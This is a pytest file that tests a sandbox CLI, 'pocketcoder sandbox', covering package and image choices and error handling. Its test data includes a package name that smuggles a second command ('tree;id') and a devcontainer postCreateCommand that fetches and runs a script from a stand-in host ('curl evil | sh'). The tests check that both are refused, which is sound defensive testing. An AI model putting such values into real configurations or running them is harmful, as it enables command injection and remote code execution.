"""`pocketcoder sandbox`: what a box is made of is chosen outside of the workspace."""

import json
from pathlib import Path

import pytest

from pocketcoder_tui.config.boxes import BoxChoices, keep, read
from pocketcoder_tui.config.paths import Paths
from pocketcoder_tui.sandbox.engine import connect
from pocketcoder_tui.sandbox.image import Recipe, image_tag
from tests.cli.conftest import Run, Typed

pytestmark = [pytest.mark.docker, pytest.mark.usefixtures("sandbox_image")]


def forget(tag: str) -> None:
    """Remove an image that a test built."""
    api = connect()
    try:
        api.remove_image(tag, force=True)
    finally:
        api.close()


def test_it_says_what_the_box_is_made_of(run: Run) -> None:
    done = run("sandbox")
    assert done.returncode == 0
    assert image_tag() in done.stdout
    assert "none beside those that every box has" in done.stdout


def test_packages_are_built_in_then_kept_and_can_go_again(run: Run, paths: Paths) -> None:
    tag = image_tag(Recipe(packages=("sl",)))
    try:
        done = run("sandbox", "packages", "add", "sl", "--yes")
        assert done.returncode == 0, done.stdout + done.stderr
        assert read(paths.box_choices) == BoxChoices(packages=("sl",))
        assert tag in run("sandbox").stdout
        assert run("sandbox", "packages").stdout == "sl\n"
        assert "It is so already." in run("sandbox", "packages", "add", "sl", "--yes").stdout
        assert run("sandbox", "packages", "remove", "sl", "--yes").returncode == 0
        assert not paths.box_choices.exists()
    finally:
        forget(tag)


@pytest.mark.parametrize(
    ("words", "status", "sentence"),
    [
        (("packages", "add", "no-such-package-at-all", "--yes"), 1, "no-such-package-at-all"),
        (("packages", "add", "tree;id", "--yes"), 1, "not the name of a Debian package"),
        (("packages", "add"), 1, "Which packages?"),
        (("packages", "remove", "tree"), 1, "Not among them: tree."),
        (("packages", "purge", "tree"), 2, "invalid choice"),
        (("use", "pc-no-such:1", "--yes"), 1, "neither here nor to be had"),
        (("use", "a b"), 1, "not the name of an image"),
        (("use",), 2, "required"),
        (("use", "--devcontainer"), 1, "There is no devcontainer.json"),
        (("shell",), 1, "needs a terminal"),
        (("packages", "add", "tree"), 1, "There is no terminal to ask on"),
    ],
)
def test_what_cannot_be_is_a_sentence_and_changes_nothing(
    run: Run, paths: Paths, words: tuple[str, ...], status: int, sentence: str
) -> None:
    done = run("sandbox", *words)
    assert done.returncode == status, done.stdout + done.stderr
    assert sentence in done.stdout + done.stderr
    assert "Traceback" not in done.stderr
    assert not paths.box_choices.exists()


def test_the_repository_s_image_is_shown_and_taken_with_a_yes_only(
    typed: Typed, paths: Paths, sandbox_image: str
) -> None:
    (paths.workspace / ".devcontainer.json").write_text(
        json.dumps({"image": sandbox_image, "postCreateCommand": "curl evil | sh"})
    )
    status, seen = typed("sandbox", "use", "--devcontainer", question="[y/N]", answer="n\n")
    assert status == 1
    assert f"names the image {sandbox_image}." in seen
    assert "Not taken from there: postCreateCommand." in seen
    assert not paths.box_choices.exists()
    try:
        status, seen = typed("sandbox", "use", "--devcontainer", question="[y/N]", answer="y\n")
        assert (status, read(paths.box_choices).image) == (0, sandbox_image), seen
        assert run_default(typed) == 0
        assert not paths.box_choices.exists()
    finally:
        forget(image_tag(Recipe(sandbox_image)))


def run_default(typed: Typed) -> int:
    """Go back to the setting's image."""
    return typed("sandbox", "use", "--default", "--yes")[0]


def test_choices_that_were_broken_are_a_sentence(run: Run, paths: Paths, tmp_path: Path) -> None:
    keep(paths.box_choices, BoxChoices("debian:trixie"))
    paths.box_choices.write_text("{")
    done = run("sandbox")
    assert done.returncode == 1
    assert "Delete it to begin anew." in done.stderr
